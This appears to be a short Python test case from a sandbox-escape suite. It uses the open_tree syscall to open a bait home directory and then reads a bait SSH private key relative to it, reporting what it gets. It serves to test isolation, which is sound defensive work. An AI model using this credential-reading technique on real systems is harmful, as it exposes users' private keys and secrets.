"""Opens a folder as a tree without copying it, and a file in it."""

import os

from attack import BAIT, attack, call, told


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    tree = call("open_tree", -100, BAIT["home"].encode(), 0o2000000)
    key = os.open(os.path.relpath(BAIT["ssh_key"], BAIT["home"]), os.O_RDONLY, dir_fd=tree)
    return told("a tree", os.read(key, 200))
